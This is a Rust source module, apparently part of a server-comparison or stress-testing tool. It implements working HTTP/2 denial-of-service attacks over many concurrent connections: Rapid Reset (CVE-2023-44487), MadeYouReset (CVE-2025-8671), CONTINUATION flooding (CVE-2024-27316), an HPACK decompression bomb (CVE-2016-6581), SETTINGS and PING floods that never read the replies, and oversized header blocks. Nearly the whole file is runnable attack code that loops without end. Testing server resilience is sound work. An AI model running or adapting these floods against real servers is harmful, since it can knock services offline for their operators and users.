//! Attacks by frames of HTTP/2: each makes a server work, or remember, for a few bytes.

use std::rc::Rc;

use anyhow::Context as _;

use super::strike::wire::{Tls, get, string};
use super::strike::{Given, Strike, crowd};
use crate::compare::files::Asset;
use crate::compare::http2::frames::{self, Frames};

/// Connections, and the addresses that they come from.
const CONNECTIONS: usize = 16;
const SOURCES: usize = 4;

/// Frames that are written at once.
const BATCH: u32 = 100;

const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;

const WHOLE: u8 = frames::END_HEADERS | frames::END_STREAM;

/// A connection whose stream numbers go up.
struct Attack {
    strike: Rc<Strike>,
    tls: Tls,
    reader: Frames,
    room: Vec<u8>,
    next: u32,
}

impl Attack {
    async fn open(strike: &Rc<Strike>, n: usize) -> Given<Self> {
        let tls = strike.h2(strike.source(n % SOURCES), &[], None).await?;
        Ok(Self { strike: Rc::clone(strike), tls, reader: Frames::default(), room: vec![0; 64 << 10], next: 1 })
    }

    /// A number for another stream; none once they are used up.
    fn stream(&mut self) -> u32 {
        self.next += 2;
        self.next - 2
    }

    /// Sends `bytes` while it reads what comes, so that neither side waits for the other.
    async fn push(&mut self, bytes: &[u8]) -> Given {
        let Self { strike, tls, reader, room, .. } = self;
        let (mut incoming, mut outgoing) = tokio::io::split(tls);
        let sending = async {
            use tokio::io::AsyncWriteExt as _;
            outgoing.write_all(bytes).await?;
            outgoing.flush().await?;
            strike.moved(bytes.len(), 0);
            anyhow::Ok(())
        };
        tokio::pin!(sending);
        loop {
            use tokio::io::AsyncReadExt as _;
            tokio::select! {
                biased;
                read = incoming.read(room) => {
                    let read = read?;
                    anyhow::ensure!(read > 0, "closed by the server");
                    strike.moved(0, read);
                    strike.heard(reader, room.get(..read).unwrap_or_default())?;
                }
                sent = &mut sending => return sent,
            }
        }
    }
}

/// Sends what `make` makes, again and again, each time for a new connection's streams.
async fn storm<M>(strike: &Rc<Strike>, make: M)
where
    M: Fn(&Strike, &mut dyn FnMut() -> u32, &mut Vec<u8>) -> u32 + Clone + 'static,
{
    crowd(strike, CONNECTIONS, move |strike, n| {
        let make = make.clone();
        async move {
            let mut attack = Attack::open(&strike, n).await?;
            loop {
                let mut out = Vec::new();
                for _ in 0..BATCH {
                    let asked = make(&strike, &mut || attack.stream(), &mut out);
                    strike.asked(asked.into());
                }
                attack.push(&out).await?;
                // Frames of the server are read above; this lets the others send.
                tokio::task::yield_now().await;
            }
        }
    })
    .await;
}

/// Asks and resets (CVE-2023-44487).
pub(super) async fn rapid_reset(strike: Rc<Strike>) {
    storm(&strike, |strike, next, out| {
        let stream = next();
        frames::push(out, frames::HEADERS, WHOLE, stream, &get(&strike.authority, Asset::Large.path(), &[]));
        frames::push(out, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        1
    })
    .await;
}

/// Asks and makes the server reset (CVE-2025-8671): a window of nothing, too large a window, DATA after the end.
pub(super) async fn made_you_reset(strike: Rc<Strike>) {
    storm(&strike, |strike, next, out| {
        let stream = next();
        frames::push(out, frames::HEADERS, WHOLE, stream, &get(&strike.authority, Asset::Large.path(), &[]));
        match strike.random() % 3 {
            0 => frames::push(out, frames::WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
            1 => frames::push(out, frames::WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()),
            _ => frames::push(out, frames::DATA, 0, stream, b"x"),
        }
        1
    })
    .await;
}

/// A head that goes on and on (CVE-2024-27316): small pieces, empty ones, and pieces as large as they may be.
pub(super) async fn continuation(strike: Rc<Strike>) {
    crowd(&strike, CONNECTIONS, |strike, n| async move {
        let mut attack = Attack::open(&strike, n).await?;
        let mut out = Vec::new();
        let stream = attack.stream();
        frames::push(&mut out, frames::HEADERS, 0, stream, &get(&strike.authority, "/", &[]));
        attack.push(&out).await?;
        strike.asked(1);
        let piece = match n % 3 {
            0 => Vec::new(),
            1 => get("", "", &[("a", "b")]).split_off(5),
            _ => {
                let mut block = Vec::new();
                while block.len() < 16_000 {
                    block.push(0);
                    string(&mut block, "x-filler");
                    string(&mut block, &"f".repeat(1000));
                }
                block
            }
        };
        loop {
            out.clear();
            for _ in 0..BATCH {
                frames::push(&mut out, CONTINUATION, 0, stream, &piece);
            }
            attack.push(&out).await?;
            tokio::task::yield_now().await;
        }
    })
    .await;
}

/// Heads that are small until they are decoded (CVE-2016-6581): a field of four kilobytes in the table, then sixteen
/// thousand references to it.
pub(super) async fn hpack_bomb(strike: Rc<Strike>) {
    crowd(&strike, CONNECTIONS, |strike, n| async move {
        let mut attack = Attack::open(&strike, n).await?;
        let mut out = Vec::new();
        let mut block = get(&strike.authority, Asset::Page.path(), &[]);
        block.push(0x40);
        string(&mut block, "x-bomb");
        string(&mut block, &"b".repeat(4000));
        frames::push(&mut out, frames::HEADERS, WHOLE, attack.stream(), &block);
        attack.push(&out).await?;
        loop {
            out.clear();
            for _ in 0..4 {
                let mut block = get(&strike.authority, Asset::Page.path(), &[]);
                block.resize(16_000, 0x80 | 62);
                frames::push(&mut out, frames::HEADERS, WHOLE, attack.stream(), &block);
                strike.asked(1);
            }
            attack.push(&out).await?;
            tokio::task::yield_now().await;
        }
    })
    .await;
}

/// SETTINGS that all want an acknowledgement, which is not read.
pub(super) async fn settings_flood(strike: Rc<Strike>) {
    deaf(&strike, |out| frames::push(out, frames::SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0, 0, 1, 0, 0, 0x10, 0])).await;
}

/// PING, the answers to which are not read.
pub(super) async fn ping_flood(strike: Rc<Strike>) {
    deaf(&strike, |out| frames::push(out, frames::PING, 0, 0, &[7; 8])).await;
}

/// Sends the same frame on and on and reads nothing until the server takes no more; then it reads, and goes on.
async fn deaf(strike: &Rc<Strike>, frame: fn(&mut Vec<u8>)) {
    crowd(strike, CONNECTIONS, move |strike, n| async move {
        let mut attack = Attack::open(&strike, n).await?;
        let mut out = Vec::new();
        (0..BATCH * 4).for_each(|_| frame(&mut out));
        loop {
            strike.asked(u64::from(BATCH) * 4);
            let sent = strike.send(&mut attack.tls, &out);
            // When nobody reads on the other side a frame may be cut: another connection.
            let sent = tokio::time::timeout(std::time::Duration::from_millis(500), sent).await;
            sent.context("the server takes no more")??;
            tokio::task::yield_now().await;
        }
    })
    .await;
}

/// Valid requests over connections that are kept, `ahead` of them at once; `path` makes each.
pub(super) async fn requests(
    strike: Rc<Strike>,
    connections: usize,
    sources: usize,
    ahead: usize,
    fields: &'static [(&'static str, &'static str)],
    path: fn(&Strike) -> String,
) {
    crowd(&strike, connections, move |strike, n| async move {
        let settings = [(frames::INITIAL_WINDOW_SIZE, 1 << 30)];
        let mut tls = strike.h2(strike.source(n % sources), &settings, None).await?;
        let (mut reader, mut room, mut open, mut next) = (Frames::default(), vec![0; 64 << 10], 0, 1);
        loop {
            let mut out = Vec::new();
            // Half of what it may have open, so that the server always has some.
            while open < ahead {
                let block = get(&strike.authority, &path(&strike), fields);
                frames::push(&mut out, frames::HEADERS, WHOLE, next, &block);
                (open, next) = (open + 1, next + 2);
                strike.asked(1);
            }
            strike.send(&mut tls, &out).await?;
            let low = ahead / 2;
            while open > low {
                let read = strike.read(&mut tls, &mut room).await?;
                let mut ended = 0;
                let bytes = room.get(..read).unwrap_or_default();
                reader.take(bytes, |event| {
                    match event {
                        frames::Event::Headers { block, end, .. } => {
                            ended += usize::from(end);
                            strike.judged(block);
                        }
                        frames::Event::Data { end, .. } => ended += usize::from(end),
                        frames::Event::Reset { code, .. } => {
                            ended += 1;
                            strike.refused(|| format!("RST_STREAM {code}"));
                        }
                        frames::Event::GoAway { code } => anyhow::bail!("GOAWAY {code}"),
                        _ => {}
                    }
                    Ok(())
                })?;
                open = open.saturating_sub(ended);
            }
        }
    })
    .await;
}

/// A head of more than 64 kB, over HTTP/2.
pub(super) async fn large_heads(strike: Rc<Strike>, connections: usize) {
    crowd(&strike, connections, |strike, n| async move {
        let mut attack = Attack::open(&strike, n).await?;
        let field = "h".repeat(8000);
        loop {
            let mut out = Vec::new();
            let stream = attack.stream();
            let begin = get(&strike.authority, Asset::Page.path(), &[("x-large", &field)]);
            frames::push(&mut out, frames::HEADERS, frames::END_STREAM, stream, &begin);
            for nth in 0..8 {
                let mut block = vec![0];
                string(&mut block, "x-large");
                string(&mut block, &field);
                let flags = if nth == 7 { frames::END_HEADERS } else { 0 };
                frames::push(&mut out, CONTINUATION, flags, stream, &block);
            }
            strike.asked(1);
            attack.push(&out).await?;
            tokio::task::yield_now().await;
        }
    })
    .await;
}
